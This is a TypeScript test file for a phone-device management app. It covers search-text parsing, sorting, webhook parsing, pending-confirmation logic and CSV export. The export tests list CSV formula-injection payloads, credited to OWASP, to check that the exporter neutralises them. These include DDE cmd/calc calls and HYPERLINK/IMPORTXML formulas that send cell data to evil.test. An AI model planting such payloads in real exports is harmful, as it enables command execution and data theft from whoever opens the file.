import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { exportOf } from '../../src/domain/device-export.js';
import type { Device } from '../../src/api/index.js';
import { isAbout, isNewer, readDeviceEvent } from '../../src/domain/device-event.js';
import { searchesIn } from '../../src/domain/search-list.js';
import { compareValues, vendorSortOf } from '../../src/domain/sorting.js';
import { timeLimitOf, waitingFor } from '../../src/domain/waiting.js';

describe('what is pasted into a search', () => {
  it.each([
    [
      'a spreadsheet column',
      '353918051234579\r\n353918051234587\r\n',
      ['353918051234579', '353918051234587'],
    ],
    ['cells of a row', 'LOAN-1\tLOAN-2', ['LOAN-1', 'LOAN-2']],
    ['a list', 'LOAN-1, LOAN-2;LOAN-3', ['LOAN-1', 'LOAN-2', 'LOAN-3']],
    [
      'numbers with spaces between',
      '353918051234579 353918051234587',
      ['353918051234579', '353918051234587'],
    ],
    ['one number in groups', '353918 05 123457 9', ['353918 05 123457 9']],
    ['one id with a space', 'LOAN 17', ['LOAN 17']],
    ['the marks of text', `'0353918051234579\n"LOAN-2"\n="LOAN-3"`, ['0353918051234579', 'LOAN-2', 'LOAN-3']],
    ['the same twice', 'LOAN-1\nLOAN-1', ['LOAN-1']],
    ['nothing', ' \n ', []],
  ])('%s', (_name, text, searches) => {
    expect(searchesIn(text)).toEqual(searches);
  });

  it('no identifier is lost, changed or doubled, whatever stands between', () => {
    const id = fc.stringMatching(/^[A-Z]{1,4}-\d{1,8}$/);
    const gap = fc.constantFrom('\n', '\r\n', '\t', ', ', ';', '\n\n');
    fc.assert(
      fc.property(fc.uniqueArray(id, { minLength: 1, maxLength: 30 }), gap, (ids, between) => {
        expect(searchesIn(ids.join(between))).toEqual(ids);
      }),
    );
  });
});

describe('sorting', () => {
  it('only what a client has been seen to send is the vendor’s, and what the host says', () => {
    expect(vendorSortOf('modifiedDate')).toBe('updateTime');
    expect(vendorSortOf('model')).toBeUndefined();
    expect(vendorSortOf('createDate', 'createDate')).toBe('createDate');
  });

  it('numbers in words count as numbers, and nothing comes last in both orders', () => {
    const values = ['LOAN-10', null, 'LOAN-9', undefined];
    const sorted = (order: 'ascending' | 'descending') =>
      [...values].sort((one, other) => compareValues(one, other, order));
    expect(sorted('ascending').slice(0, 2)).toEqual(['LOAN-9', 'LOAN-10']);
    expect(sorted('descending').slice(0, 2)).toEqual(['LOAN-10', 'LOAN-9']);
  });
});

describe('a webhook’s body', () => {
  const payload = {
    previousDeviceStatus: 'Locking',
    deviceStatus: 'Locked',
    lastUpdatedAt: '1700000000000',
    deviceUid: '353918051234579',
  };

  it('tells state and time of a device, whole or as its payload alone', () => {
    const event = readDeviceEvent({ event: 'KG_DEVICE_LOCKED', payload });
    expect(event).toEqual(readDeviceEvent(payload));
    expect(event?.change).toEqual({ status: 'Locked', modifiedDate: 1_700_000_000_000 });
  });

  it('with the documentation’s own word in place of a state changes no state', () => {
    expect(readDeviceEvent({ ...payload, deviceStatus: 'deviceStatus' })?.change).not.toHaveProperty(
      'status',
    );
  });

  it.each([[undefined], [null], ['text'], [[]], [{}], [{ payload: {} }], [{ payload: { deviceUid: 7 } }]])(
    'that names no device is none: %j',
    (body) => {
      expect(readDeviceEvent(body)).toBeUndefined();
    },
  );

  it('may name an IMEI without its check digit', () => {
    const event = readDeviceEvent({ ...payload, deviceUid: '35391805123457' });
    expect(event && isAbout(event, { deviceUid: '353918051234579' })).toBe(true);
    expect(event && isAbout(event, { deviceUid: '353918051234679' })).toBe(false);
  });

  it('is news only where it is newer than the row; without a time it never is', () => {
    const event = readDeviceEvent(payload);
    expect(event && isNewer(event, { modifiedDate: 1_699_999_999_999 }, 0)).toBe(true);
    expect(event && isNewer(event, { modifiedDate: 1_700_000_000_000 }, 0)).toBe(false);
    const timeless = readDeviceEvent({ ...payload, lastUpdatedAt: undefined });
    expect(timeless && isNewer(timeless, {}, 0)).toBe(false);
  });

  it('of any shape breaks nothing', () => {
    fc.assert(
      fc.property(fc.anything(), (body) => {
        readDeviceEvent(body);
        readDeviceEvent({ payload: body });
      }),
    );
  });
});

describe('what a phone has yet to confirm', () => {
  it('is what was asked and is said to be not applied; what is not said is not waited for', () => {
    const device = {
      isOfflineLockTarget: true,
      isOfflineLockApplied: false,
      isFactoryResetBlockTarget: true,
      isFactoryResetBlockApplied: true,
      isWallpaperRestrictionsTarget: true,
      simControlEnabled: true,
      simControlApplied: false,
    };
    expect(waitingFor(device)).toEqual(['simControl', 'OfflineLock']);
  });

  it('waits for the phone also to let go: a borrower who has paid waits for that', () => {
    const released = { isOfflineLockTarget: false, isOfflineLockApplied: true };
    expect(waitingFor(released as Device)).toEqual(['OfflineLock']);
    expect(waitingFor({ isOfflineLockTarget: false, isOfflineLockApplied: false })).toEqual([]);
    expect(waitingFor({ isOfflineLockApplied: true }), 'one side is not told').toEqual([]);
  });

  it('time limits are the vendor’s two, counted from a time we know or from none', () => {
    expect(timeLimitOf({ status: 'Completing', modifiedDate: 1000 })).toEqual({
      state: 'Completing',
      since: 1000,
      until: 1000 + 172_800_000,
    });
    expect(timeLimitOf({ status: 'Accepted' })).toEqual({
      state: 'Accepted',
      since: undefined,
      until: undefined,
    });
    expect(timeLimitOf({ status: 'Locked', modifiedDate: 1000 })).toBeUndefined();
  });
});

describe('a file of devices', () => {
  const column = { header: 'Value', valueOf: (value: unknown) => value };
  const cells = (values: readonly unknown[]) =>
    exportOf(values, [column], () => false)
      .split('\r\n')
      .slice(1, -1);

  // From OWASP's "CSV Injection" and its cheat sheets.
  it.each([
    `=cmd|' /C calc'!A0`,
    '=HYPERLINK("http://evil.test?x="&A1,"Click")',
    '+1+1',
    '-2+3+cmd|calc',
    '@SUM(1+1)*cmd|calc',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '=IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
  ])('holds no formula: %j', (attack) => {
    const [cell = ''] = cells([attack]);
    expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@＝]/);
    expect(cell).toContain(`'`);
  });

  it('keeps every digit of an identifier', () => {
    expect(cells(['353918051234579', '001234567890123'])).toEqual([
      `"'353918051234579"`,
      `"'001234567890123"`,
    ]);
  });

  it('writes times as every program reads them', () => {
    expect(exportOf([0], [column], () => true)).toContain('1970-01-01T00:00:00.000Z');
  });
});
